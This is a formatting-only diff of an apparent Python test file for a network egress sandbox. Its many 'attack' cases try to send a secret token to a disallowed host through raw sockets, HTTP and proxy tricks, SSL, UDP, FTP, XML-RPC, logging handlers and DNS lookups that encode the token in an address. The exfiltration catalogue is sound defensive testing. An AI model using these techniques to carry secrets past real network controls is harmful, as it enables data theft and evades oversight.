@@ -1,4 +1,5 @@
 """Words to the outside. The effect: the token arrived at a host that the policies don't allow."""
+
 import asyncio
 import os
 import socket
@@ -36,6 +37,7 @@ def _(lab):
 @attack('_socket.socket.connect')
 def _(lab):
     import _socket
+
     connection = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
     connection.connect(there(lab))
     connection.send(word(lab))
@@ -44,6 +46,7 @@ def _(lab):
 @attack('connect_ex without blocking')
 def _(lab):
     import select
+
     connection = socket.socket()
     connection.setblocking(False)
     connection.connect_ex(there(lab))
@@ -75,6 +78,7 @@ def _(lab):
 @attack('an allowed host at another port')
 def _(lab):
     import ssl
+
     address = socket.getaddrinfo(lab.allowedName, None, socket.AF_INET)[0][4][0]
     with ssl._create_unverified_context().wrap_socket(socket.create_connection((address, lab.ports.tls), 3)) as connection:
         connection.sendall(word(lab))
@@ -126,12 +130,14 @@ def _(lab):
 @attack('urllib')
 def _(lab):
     import urllib.request
+
     urllib.request.urlopen(f'http://{lab.host}:{lab.ports.tcp}/{lab.token}', timeout=3).read()
 
 
 @attack('http.client by name')
 def _(lab):
     import http.client
+
     connection = http.client.HTTPConnection(lab.otherName, lab.ports.tcp, timeout=3)
     connection.request('GET', f'/{lab.token}')
     connection.getresponse()
@@ -140,6 +146,7 @@ def _(lab):
 @attack('an allowed host as proxy of another, by its address')
 def _(lab):
     import urllib.request
+
     opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': f'http://{lab.host}:{lab.ports.tcp}'}))
     opener.open(f'http://{lab.allowedName}/{lab.token}', timeout=3).read()
 
@@ -147,6 +154,7 @@ def _(lab):
 @attack('ssl')
 def _(lab):
     import ssl
+
     context = ssl._create_unverified_context()
     with context.wrap_socket(socket.create_connection((lab.host, lab.ports.tls), 3)) as connection:
         connection.sendall(word(lab))
@@ -159,6 +167,7 @@ def _(lab):
         _, writer = await asyncio.open_connection(*there(lab))
         writer.write(word(lab))
         await writer.drain()
+
     asyncio.run(run())
 
 
@@ -168,12 +177,14 @@ def _(lab):
         transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=(lab.host, lab.ports.udp))
         transport.sendto(word(lab))
         await asyncio.sleep(0.1)
+
     asyncio.run(run())
 
 
 @attack('ftplib')
 def _(lab):
     import ftplib
+
     client = ftplib.FTP(timeout=1)
     client.host, client.port = there(lab)
     client.sock = socket.create_connection(there(lab), 3)
@@ -183,6 +194,7 @@ def _(lab):
 @attack('xmlrpc')
 def _(lab):
     import xmlrpc.client
+
     try:
         getattr(xmlrpc.client.ServerProxy(f'http://{lab.host}:{lab.ports.tcp}/'), lab.token)()
     except xmlrpc.client.Error:
@@ -195,6 +207,7 @@ def _(lab):
 @attack('multiprocessing.connection')
 def _(lab):
     import multiprocessing.connection
+
     connection = multiprocessing.connection.SocketClient(there(lab))
     connection.send_bytes(word(lab))
 
@@ -202,6 +215,7 @@ def _(lab):
 @attack('logging.handlers.SocketHandler')
 def _(lab):
     import logging.handlers
+
     handler = logging.handlers.SocketHandler(*there(lab))
     handler.send(word(lab))
 
@@ -209,6 +223,7 @@ def _(lab):
 @attack('logging.handlers.SysLogHandler')
 def _(lab):
     import logging.handlers
+
     logging.handlers.SysLogHandler((lab.host, lab.ports.udp)).emit(logging.makeLogRecord({'msg': lab.token}))
 
 
@@ -252,7 +267,7 @@ def _(lab):
 def telling_address(lab):
     """The token as the digits of an IPv6 address: asking for its name tells it."""
     digits = (lab.token + '0' * 32)[:32]
-    return ':'.join(digits[at:at + 4] for at in range(0, 32, 4))
+    return ':'.join(digits[at : at + 4] for at in range(0, 32, 4))
 
 
 @attack('gethostbyaddr of an address that tells')
@@ -274,6 +289,7 @@ def _(lab):
 def _(lab):
     async def run():
         await asyncio.get_running_loop().getaddrinfo(secret_name(lab), 80)
+
     asyncio.run(run())
 
 
